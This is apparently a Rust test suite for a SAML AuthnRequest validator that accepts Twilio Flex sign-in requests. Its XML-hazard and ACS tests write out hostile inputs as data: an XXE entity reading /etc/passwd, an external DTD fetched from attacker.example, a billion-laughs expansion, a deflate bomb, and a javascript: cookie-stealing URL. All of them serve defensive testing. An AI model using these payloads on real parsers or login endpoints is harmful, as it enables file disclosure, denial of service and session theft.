//! The AuthnRequest half of the security floor (SPEC.md), one test per rule, each asserting the
//! specific `RequestError`: decoding limits, XML hazards, the request's shape, its time window,
//! ACS / Destination / binding / NameIDPolicy checks, RelayState; plus acceptance of requests
//! shaped like the ones Flex really sends (Legacy: OneLogin toolkit; Enhanced: Auth0).

use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use chrono::{DateTime, Duration, TimeZone, Utc};
use flexgate::saml::request::{
    check_relay_state, decode_post, decode_redirect, parse, validate, AuthnRequest, Comparison,
    Limits, Policy, RequestError,
};
use std::io::Write;

const SSO: &str = "https://sso.example.com/saml/sso";
const JQ: &str = "JQ0123456789abcdef0123456789abcdef";
const AC: &str = "AC0123456789abcdef0123456789abcdef";
const SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const POST: &str = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST";

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 1, 15, 10, 0, 0).unwrap()
}

fn policy() -> Policy<'static> {
    Policy {
        sso_url: SSO,
        now: now(),
        max_age: Duration::seconds(300),
        skew: Duration::seconds(60),
    }
}

fn enhanced_acs() -> String {
    format!("https://login.flex.us1.twilio.com/login/callback?connection={JQ}")
}

fn legacy_acs() -> String {
    format!("https://iam.twilio.com/v1/Accounts/{AC}/saml2")
}

fn deflate(xml: &[u8]) -> String {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(xml).unwrap();
    B64.encode(e.finish().unwrap())
}

/// A minimal valid request with `attrs` (replacing defaults of the same name) and `body`.
fn request(attrs: &[(&str, &str)], body: &str) -> String {
    let mut all: Vec<(String, String)> = vec![
        ("ID".into(), "_req1".into()),
        ("Version".into(), "2.0".into()),
        ("IssueInstant".into(), "2026-01-15T09:59:58Z".into()),
        ("Destination".into(), SSO.into()),
        ("AssertionConsumerServiceURL".into(), enhanced_acs()),
        ("ProtocolBinding".into(), POST.into()),
    ];
    for (k, v) in attrs {
        all.retain(|(n, _)| n != k);
        if !v.is_empty() || *k == "ID" {
            all.push((k.to_string(), v.to_string()));
        }
    }
    let a: String = all
        .iter()
        .map(|(k, v)| {
            format!(
                " {k}=\"{}\"",
                v.replace('&', "&amp;").replace('"', "&quot;")
            )
        })
        .collect();
    format!("<samlp:AuthnRequest xmlns:samlp=\"{SAMLP}\" xmlns:saml=\"{SAML}\"{a}>{body}</samlp:AuthnRequest>")
}

fn issuer() -> String {
    format!("<saml:Issuer>urn:flex:{JQ}</saml:Issuer>")
}

fn ok_request() -> String {
    request(&[], &issuer())
}

fn parse_ok(xml: &str) -> AuthnRequest {
    parse(xml).unwrap_or_else(|e| panic!("refused: {e}\n{xml}"))
}

fn check(xml: &str) -> Result<(), RequestError> {
    validate(&parse(xml)?, &enhanced_acs(), &policy())
}

// ------------------------------------------------------------------ decoding and sizes

#[test]
fn a_valid_request_passes_both_bindings() {
    let xml = ok_request();
    let via_redirect = decode_redirect(&deflate(xml.as_bytes()), &Limits::default()).unwrap();
    assert_eq!(via_redirect, xml);
    let via_post = decode_post(&B64.encode(&xml), &Limits::default()).unwrap();
    assert_eq!(via_post, xml);
    check(&xml).unwrap();
}

#[test]
fn post_base64_with_line_breaks_is_accepted() {
    let xml = ok_request();
    let b64 = B64.encode(&xml);
    let wrapped: String = b64
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect::<Vec<_>>()
        .join("\r\n");
    assert_eq!(decode_post(&wrapped, &Limits::default()).unwrap(), xml);
}

#[test]
fn empty_saml_request_is_refused() {
    assert_eq!(
        decode_redirect("", &Limits::default()),
        Err(RequestError::MissingRequest)
    );
    assert_eq!(
        decode_post("", &Limits::default()),
        Err(RequestError::MissingRequest)
    );
}

#[test]
fn oversize_encoded_request_is_refused_before_decoding() {
    let limits = Limits::default();
    let big = "A".repeat(limits.max_encoded + 1);
    assert_eq!(
        decode_redirect(&big, &limits),
        Err(RequestError::TooLarge(big.len(), limits.max_encoded))
    );
    assert_eq!(
        decode_post(&big, &limits),
        Err(RequestError::TooLarge(big.len(), limits.max_encoded))
    );
    // Exactly at the limit is decoded (and then judged on its content).
    let at = "A".repeat(limits.max_encoded);
    assert_ne!(
        decode_post(&at, &limits),
        Err(RequestError::TooLarge(at.len(), limits.max_encoded))
    );
}

#[test]
fn invalid_base64_is_refused() {
    for bad in ["%%%not base64%%%", "PHNhbWxw*", "abc"] {
        assert_eq!(
            decode_redirect(bad, &Limits::default()),
            Err(RequestError::Base64),
            "{bad}"
        );
        assert_eq!(
            decode_post(bad, &Limits::default()),
            Err(RequestError::Base64),
            "{bad}"
        );
    }
}

#[test]
fn invalid_deflate_is_refused() {
    // 0xFF: final block of the reserved type 3.
    let bad = B64.encode([0xFFu8; 16]);
    assert_eq!(
        decode_redirect(&bad, &Limits::default()),
        Err(RequestError::Deflate)
    );
}

#[test]
fn deflate_bomb_is_stopped_at_max_xml() {
    let limits = Limits::default();
    // 16 MiB of spaces inside a comment deflate to a few KiB: small on the wire, huge inflated.
    let mut xml = ok_request().into_bytes();
    xml.extend(b"<!--");
    xml.extend(std::iter::repeat_n(b' ', 16 * 1024 * 1024));
    xml.extend(b"-->");
    let encoded = deflate(&xml);
    assert!(
        encoded.len() < limits.max_encoded,
        "the bomb fits the wire limit"
    );
    assert_eq!(
        decode_redirect(&encoded, &limits),
        Err(RequestError::InflatedTooLarge(limits.max_xml))
    );
    // One byte over the inflated limit is refused, exactly at it accepted.
    let small = Limits {
        max_xml: 1000,
        ..limits
    };
    let pad = |n: usize| {
        let mut x = ok_request().into_bytes();
        let n = n - x.len();
        x.extend(std::iter::repeat_n(b' ', n));
        x
    };
    assert_eq!(
        decode_redirect(&deflate(&pad(1001)), &small),
        Err(RequestError::InflatedTooLarge(1000))
    );
    assert!(decode_redirect(&deflate(&pad(1000)), &small).is_ok());
    // HTTP-POST: no inflate, but the decoded XML is capped all the same.
    assert_eq!(
        decode_post(&B64.encode(pad(1001)), &small),
        Err(RequestError::InflatedTooLarge(1000))
    );
}

#[test]
fn non_utf8_is_refused() {
    let mut xml = ok_request().into_bytes();
    xml.extend([0xFF, 0xFE, 0x80]);
    assert_eq!(
        decode_redirect(&deflate(&xml), &Limits::default()),
        Err(RequestError::Utf8)
    );
    assert_eq!(
        decode_post(&B64.encode(&xml), &Limits::default()),
        Err(RequestError::Utf8)
    );
    // Latin-1 declared and used: still refused (SAML over HTTP here is UTF-8 only).
    let latin1 = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ProviderName=\"Z\xF6e\"/>";
    assert_eq!(
        decode_post(&B64.encode(latin1), &Limits::default()),
        Err(RequestError::Utf8)
    );
}

// ------------------------------------------------------------------ XML hazards

#[test]
fn doctype_is_refused() {
    let xml = format!("<!DOCTYPE samlp:AuthnRequest>{}", ok_request());
    assert_eq!(parse(&xml), Err(RequestError::Doctype));
}

#[test]
fn external_entity_is_refused() {
    let xml = format!(
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>{}",
        request(&[], "<saml:Issuer>&xxe;</saml:Issuer>")
    );
    assert_eq!(parse(&xml), Err(RequestError::Doctype));
    let xml = format!(
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]>{}",
        ok_request()
    );
    assert_eq!(parse(&xml), Err(RequestError::Doctype));
}

#[test]
fn billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{prev};").repeat(10)
        ));
    }
    dtd.push_str("]>");
    let xml = format!("{dtd}{}", request(&[], "<saml:Issuer>&lol9;</saml:Issuer>"));
    assert_eq!(parse(&xml), Err(RequestError::Doctype));
    // Through the Redirect binding too (the DOCTYPE survives decoding; parse refuses it).
    let decoded = decode_redirect(&deflate(xml.as_bytes()), &Limits::default()).unwrap();
    assert_eq!(parse(&decoded), Err(RequestError::Doctype));
}

#[test]
fn malformed_xml_is_refused() {
    assert!(matches!(
        parse("<samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">"),
        Err(RequestError::Xml(_))
    ));
    assert!(matches!(
        parse("<samlp:AuthnRequest ID=\"x\">"),
        Err(RequestError::Xml(_))
    ));
    assert!(matches!(parse("not xml"), Err(RequestError::Xml(_))));
}

// ------------------------------------------------------------------ shape

#[test]
fn wrong_root_is_refused() {
    let response = format!(
        "<samlp:Response xmlns:samlp=\"{SAMLP}\" ID=\"_r\" Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\">{}</samlp:Response>",
        issuer().replace("<saml:Issuer>", &format!("<saml:Issuer xmlns:saml=\"{SAML}\">"))
    );
    assert_eq!(
        parse(&response),
        Err(RequestError::NotAuthnRequest(format!(
            "{{{SAMLP}}}Response"
        )))
    );
    let logout = ok_request().replace("AuthnRequest", "LogoutRequest");
    assert_eq!(
        parse(&logout),
        Err(RequestError::NotAuthnRequest(format!(
            "{{{SAMLP}}}LogoutRequest"
        )))
    );
}

#[test]
fn authn_request_in_the_wrong_namespace_is_refused() {
    // Right local name and prefix, another namespace.
    let evil = ok_request().replace(
        &format!("xmlns:samlp=\"{SAMLP}\""),
        "xmlns:samlp=\"urn:evil:protocol\"",
    );
    assert_eq!(
        parse(&evil),
        Err(RequestError::NotAuthnRequest(
            "{urn:evil:protocol}AuthnRequest".into()
        ))
    );
    // SAML 1.x protocol namespace.
    let old = ok_request().replace(SAMLP, "urn:oasis:names:tc:SAML:1.0:protocol");
    assert!(matches!(parse(&old), Err(RequestError::NotAuthnRequest(_))));
    // No namespace at all (default namespace undeclared).
    let bare = format!(
        "<AuthnRequest ID=\"_x\" Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\"><saml:Issuer xmlns:saml=\"{SAML}\">urn:flex:{JQ}</saml:Issuer></AuthnRequest>"
    );
    assert_eq!(
        parse(&bare),
        Err(RequestError::NotAuthnRequest("AuthnRequest".into()))
    );
    // Default namespace is fine when it is the right one.
    let default_ns = format!(
        "<AuthnRequest xmlns=\"{SAMLP}\" ID=\"_x\" Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\"><Issuer xmlns=\"{SAML}\">urn:flex:{JQ}</Issuer></AuthnRequest>"
    );
    assert_eq!(parse_ok(&default_ns).issuer, format!("urn:flex:{JQ}"));
}

#[test]
fn issuer_in_the_wrong_namespace_does_not_count() {
    let xml = request(&[], &format!("<samlp:Issuer>urn:flex:{JQ}</samlp:Issuer>"));
    assert_eq!(parse(&xml), Err(RequestError::MissingIssuer));
}

#[test]
fn namespaced_acs_attribute_is_not_the_acs() {
    let xml = request(&[("AssertionConsumerServiceURL", "")], &issuer()).replace(
        "<samlp:AuthnRequest ",
        "<samlp:AuthnRequest xmlns:x=\"urn:x\" x:AssertionConsumerServiceURL=\"https://evil.example/acs\" ",
    );
    // roxmltree's `attribute("name")` also matches a namespaced attribute with that local name,
    // so today the foreign attribute is read as the ACS; either way it must never be accepted.
    let req = parse_ok(&xml);
    match req.acs_url.as_deref() {
        None => validate(&req, &enhanced_acs(), &policy()).unwrap(),
        Some("https://evil.example/acs") => assert!(matches!(
            validate(&req, &enhanced_acs(), &policy()),
            Err(RequestError::AcsMismatch { .. })
        )),
        Some(other) => panic!("unexpected ACS {other}"),
    }
}

#[test]
fn version_other_than_2_0_is_refused() {
    let xml = request(&[("Version", "1.1")], &issuer());
    assert_eq!(parse(&xml), Err(RequestError::Version("1.1".into())));
    let xml = request(&[("Version", "")], &issuer());
    assert_eq!(parse(&xml), Err(RequestError::Version("".into())));
}

#[test]
fn missing_or_blank_id_is_refused() {
    let missing = request(&[], &issuer()).replace(" ID=\"_req1\"", "");
    assert_eq!(parse(&missing), Err(RequestError::BadId));
    assert_eq!(
        parse(&request(&[("ID", "")], &issuer())),
        Err(RequestError::BadId)
    );
    assert_eq!(
        parse(&request(&[("ID", "_a b")], &issuer())),
        Err(RequestError::BadId)
    );
    let long = format!("_{}", "a".repeat(300));
    assert_eq!(
        parse(&request(&[("ID", &long)], &issuer())),
        Err(RequestError::BadId)
    );
}

#[test]
fn missing_issuer_is_refused() {
    assert_eq!(parse(&request(&[], "")), Err(RequestError::MissingIssuer));
    assert_eq!(
        parse(&request(&[], "<saml:Issuer>  </saml:Issuer>")),
        Err(RequestError::MissingIssuer)
    );
}

#[test]
fn two_issuers_are_refused() {
    let body = format!("{}<saml:Issuer>urn:evil</saml:Issuer>", issuer());
    assert_eq!(parse(&request(&[], &body)), Err(RequestError::TwoIssuers));
}

// ------------------------------------------------------------------ IssueInstant window

#[test]
fn unparseable_issue_instant_is_refused() {
    for bad in [
        "yesterday",
        "2026-01-15 10:00:00",
        "2026-01-15T10:00:00", // no zone
        "2026-13-15T10:00:00Z",
    ] {
        assert_eq!(
            parse(&request(&[("IssueInstant", bad)], &issuer())),
            Err(RequestError::BadIssueInstant(bad.into())),
            "{bad}"
        );
    }
    let missing = request(&[], &issuer()).replace(" IssueInstant=\"2026-01-15T09:59:58Z\"", "");
    assert_eq!(
        parse(&missing),
        Err(RequestError::BadIssueInstant(String::new()))
    );
}

fn at(instant: &str) -> Result<(), RequestError> {
    check(&request(&[("IssueInstant", instant)], &issuer()))
}

#[test]
fn stale_issue_instant_is_refused() {
    // now − max_age (300 s) − skew (60 s) = 09:54:00.
    assert_eq!(
        at("2026-01-15T09:53:59Z"),
        Err(RequestError::Stale("2026-01-15T09:53:59Z".into(), 300))
    );
    assert_eq!(
        at("2025-01-15T10:00:00Z"),
        Err(RequestError::Stale("2025-01-15T10:00:00Z".into(), 300))
    );
}

#[test]
fn future_issue_instant_is_refused() {
    // now + skew (60 s) = 10:01:00.
    assert_eq!(
        at("2026-01-15T10:01:01Z"),
        Err(RequestError::Future("2026-01-15T10:01:01Z".into()))
    );
    assert_eq!(
        at("2027-01-15T10:00:00Z"),
        Err(RequestError::Future("2027-01-15T10:00:00Z".into()))
    );
}

#[test]
fn issue_instant_inside_the_window_is_accepted_including_the_skew_edges() {
    for ok in [
        "2026-01-15T10:00:00Z",
        "2026-01-15T09:54:00Z",     // oldest: now − max_age − skew
        "2026-01-15T10:01:00Z",     // newest: now + skew
        "2026-01-15T09:59:59.512Z", // Auth0 writes milliseconds
        "2026-01-15T11:00:00+01:00",
    ] {
        assert_eq!(at(ok), Ok(()), "{ok}");
    }
}

// ------------------------------------------------------------------ ACS, Destination, binding

#[test]
fn acs_of_another_host_is_refused() {
    let evil =
        "https://evil.example.com/login/callback?connection=JQ0123456789abcdef0123456789abcdef";
    assert_eq!(
        check(&request(
            &[("AssertionConsumerServiceURL", evil)],
            &issuer()
        )),
        Err(RequestError::AcsMismatch {
            found: evil.into(),
            expected: enhanced_acs()
        })
    );
}

#[test]
fn acs_with_another_connection_is_refused() {
    let other = "https://login.flex.us1.twilio.com/login/callback?connection=JQffffffffffffffffffffffffffffffff";
    assert!(matches!(
        check(&request(
            &[("AssertionConsumerServiceURL", other)],
            &issuer()
        )),
        Err(RequestError::AcsMismatch { .. })
    ));
    // Near misses of the right URL are refused too: the comparison is exact.
    for near in [
        "https://login.flex.us1.twilio.com/login/callback",
        "https://login.flex.us1.twilio.com/login/callback?connection=JQ0123456789abcdef0123456789abcdef&x=1",
        "https://login.flex.us1.twilio.com/login/callback/?connection=JQ0123456789abcdef0123456789abcdef",
        "http://login.flex.us1.twilio.com/login/callback?connection=JQ0123456789abcdef0123456789abcdef",
        "https://LOGIN.flex.us1.twilio.com/login/callback?connection=JQ0123456789abcdef0123456789abcdef",
    ] {
        assert!(
            matches!(
                check(&request(&[("AssertionConsumerServiceURL", near)], &issuer())),
                Err(RequestError::AcsMismatch { .. })
            ),
            "{near}"
        );
    }
}

#[test]
fn acs_with_javascript_scheme_is_refused() {
    let js = "javascript:alert(document.cookie)//https://login.flex.us1.twilio.com/";
    assert_eq!(
        check(&request(&[("AssertionConsumerServiceURL", js)], &issuer())),
        Err(RequestError::AcsMismatch {
            found: js.into(),
            expected: enhanced_acs()
        })
    );
}

#[test]
fn acs_index_above_1_is_refused() {
    let xml = request(
        &[
            ("AssertionConsumerServiceURL", ""),
            ("AssertionConsumerServiceIndex", "2"),
        ],
        &issuer(),
    );
    assert_eq!(check(&xml), Err(RequestError::AcsIndex(2)));
    let xml = request(
        &[
            ("AssertionConsumerServiceURL", ""),
            ("AssertionConsumerServiceIndex", "-1"),
        ],
        &issuer(),
    );
    assert_eq!(parse(&xml), Err(RequestError::BadAcsIndex("-1".into())));
    for ok in ["0", "1"] {
        let xml = request(
            &[
                ("AssertionConsumerServiceURL", ""),
                ("AssertionConsumerServiceIndex", ok),
            ],
            &issuer(),
        );
        assert_eq!(check(&xml), Ok(()), "index {ok}");
    }
    // Neither URL nor index: the configured ACS is used.
    let xml = request(&[("AssertionConsumerServiceURL", "")], &issuer());
    assert_eq!(check(&xml), Ok(()));
}

#[test]
fn destination_mismatch_is_refused() {
    for bad in [
        "https://evil.example.com/saml/sso",
        "https://sso.example.com/saml/sso/",
        "https://sso.example.com/saml/SSO",
        "http://sso.example.com/saml/sso",
        "https://sso.example.com/other?x=https://sso.example.com/saml/sso",
    ] {
        assert_eq!(
            check(&request(&[("Destination", bad)], &issuer())),
            Err(RequestError::Destination {
                found: bad.into(),
                expected: SSO.into()
            }),
            "{bad}"
        );
    }
}

#[test]
fn destination_with_a_connection_query_is_accepted() {
    let d = format!("{SSO}?connection={JQ}");
    assert_eq!(check(&request(&[("Destination", &d)], &issuer())), Ok(()));
    // No Destination at all is allowed (unsigned requests need not carry one).
    assert_eq!(check(&request(&[("Destination", "")], &issuer())), Ok(()));
}

#[test]
fn protocol_binding_other_than_post_is_refused() {
    for b in [
        "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect",
        "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact",
        "urn:oasis:names:tc:SAML:2.0:bindings:PAOS",
    ] {
        assert_eq!(
            check(&request(&[("ProtocolBinding", b)], &issuer())),
            Err(RequestError::ProtocolBinding(b.into()))
        );
    }
    assert_eq!(
        check(&request(&[("ProtocolBinding", "")], &issuer())),
        Ok(())
    );
}

fn with_name_id_policy(format: &str) -> String {
    request(
        &[],
        &format!(
            "{}<samlp:NameIDPolicy Format=\"{format}\" AllowCreate=\"true\"/>",
            issuer()
        ),
    )
}

#[test]
fn name_id_policy_persistent_is_refused() {
    for f in [
        "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
        "urn:oasis:names:tc:SAML:2.0:nameid-format:transient",
        "urn:oasis:names:tc:SAML:2.0:nameid-format:encrypted",
    ] {
        assert_eq!(
            check(&with_name_id_policy(f)),
            Err(RequestError::NameIdPolicy(f.into()))
        );
    }
}

#[test]
fn name_id_policy_email_and_unspecified_are_accepted() {
    for f in [
        "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress",
        "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified",
        "urn:oasis:names:tc:SAML:2.0:nameid-format:unspecified",
    ] {
        assert_eq!(check(&with_name_id_policy(f)), Ok(()), "{f}");
    }
    // NameIDPolicy without Format.
    let xml = request(
        &[],
        &format!("{}<samlp:NameIDPolicy AllowCreate=\"true\"/>", issuer()),
    );
    assert_eq!(check(&xml), Ok(()));
}

#[test]
fn relay_state_over_the_limit_is_refused() {
    let limits = Limits::default();
    let long = "r".repeat(limits.max_relay_state + 1);
    assert_eq!(
        check_relay_state(Some(&long), &limits),
        Err(RequestError::RelayStateTooLong(
            long.len(),
            limits.max_relay_state
        ))
    );
    // Multi-byte characters count as bytes.
    let wide = "é".repeat(limits.max_relay_state / 2 + 1);
    assert!(matches!(
        check_relay_state(Some(&wide), &limits),
        Err(RequestError::RelayStateTooLong(_, _))
    ));
    let exactly = "r".repeat(limits.max_relay_state);
    assert_eq!(check_relay_state(Some(&exactly), &limits), Ok(()));
    assert_eq!(check_relay_state(None, &limits), Ok(()));
    assert_eq!(check_relay_state(Some(""), &limits), Ok(()));
}

// ------------------------------------------------------------------ real-world shapes

/// What Flex Legacy SSO sends (OneLogin php-saml / python3-saml toolkit), Redirect binding.
fn flex_legacy_request() -> String {
    format!(
        r#"<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="ONELOGIN_5d1b7a2f8c3e9d0a4b6f1c2e7a8d9b0c3f4e5a6b" Version="2.0" ProviderName="Twilio Flex" IssueInstant="2026-01-15T09:59:57Z" Destination="{SSO}" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" AssertionConsumerServiceURL="{acs}">
    <saml:Issuer>https://iam.twilio.com/v1/Accounts/{AC}/saml2/metadata</saml:Issuer>
    <samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true" />
    <samlp:RequestedAuthnContext Comparison="exact">
        <saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef>
    </samlp:RequestedAuthnContext>
</samlp:AuthnRequest>"#,
        acs = legacy_acs()
    )
}

#[test]
fn flex_legacy_onelogin_request_is_accepted_via_redirect() {
    let encoded = deflate(flex_legacy_request().as_bytes());
    let xml = decode_redirect(&encoded, &Limits::default()).unwrap();
    let req = parse_ok(&xml);
    assert_eq!(req.id, "ONELOGIN_5d1b7a2f8c3e9d0a4b6f1c2e7a8d9b0c3f4e5a6b");
    assert_eq!(
        req.issuer,
        format!("https://iam.twilio.com/v1/Accounts/{AC}/saml2/metadata")
    );
    assert_eq!(req.acs_url.as_deref(), Some(legacy_acs().as_str()));
    assert_eq!(req.destination.as_deref(), Some(SSO));
    assert_eq!(req.protocol_binding.as_deref(), Some(POST));
    assert_eq!(
        req.name_id_format.as_deref(),
        Some("urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress")
    );
    let rac = req.requested_authn_context.clone().unwrap();
    assert_eq!(rac.comparison, Comparison::Exact);
    assert_eq!(
        rac.class_refs,
        vec!["urn:oasis:names:tc:SAML:2.0:ac:classes:Password".to_string()]
    );
    assert!(!req.force_authn && !req.is_passive && !req.has_signature);
    assert_eq!(
        req.issue_instant,
        Utc.with_ymd_and_hms(2026, 1, 15, 9, 59, 57).unwrap()
    );
    validate(&req, &legacy_acs(), &policy()).unwrap();
    // The same request against the Enhanced SP's ACS is refused.
    assert!(matches!(
        validate(&req, &enhanced_acs(), &policy()),
        Err(RequestError::AcsMismatch { .. })
    ));
}

/// What Flex Enhanced SSO sends: Auth0's SAML connection acting as the SP, Redirect binding.
fn flex_enhanced_request() -> String {
    format!(
        r#"<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" AssertionConsumerServiceURL="{acs}" Destination="{SSO}?connection={JQ}" ID="_b3f0c2a9e1d84f6a7c5e" IssueInstant="2026-01-15T09:59:59.512Z" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">urn:flex:{JQ}</saml:Issuer></samlp:AuthnRequest>"#,
        acs = enhanced_acs()
    )
}

#[test]
fn flex_enhanced_auth0_request_is_accepted_via_redirect() {
    let encoded = deflate(flex_enhanced_request().as_bytes());
    let xml = decode_redirect(&encoded, &Limits::default()).unwrap();
    let req = parse_ok(&xml);
    assert_eq!(req.id, "_b3f0c2a9e1d84f6a7c5e");
    assert_eq!(req.issuer, format!("urn:flex:{JQ}"));
    assert_eq!(req.acs_url.as_deref(), Some(enhanced_acs().as_str()));
    assert_eq!(req.name_id_format, None);
    assert_eq!(req.requested_authn_context, None);
    assert!(!req.has_signature);
    validate(&req, &enhanced_acs(), &policy()).unwrap();
}

#[test]
fn force_authn_and_is_passive_are_read() {
    let xml = request(&[("ForceAuthn", "true"), ("IsPassive", "1")], &issuer());
    let req = parse_ok(&xml);
    assert!(req.force_authn && req.is_passive);
    let xml = request(&[("ForceAuthn", "false"), ("IsPassive", "0")], &issuer());
    let req = parse_ok(&xml);
    assert!(!req.force_authn && !req.is_passive);
}
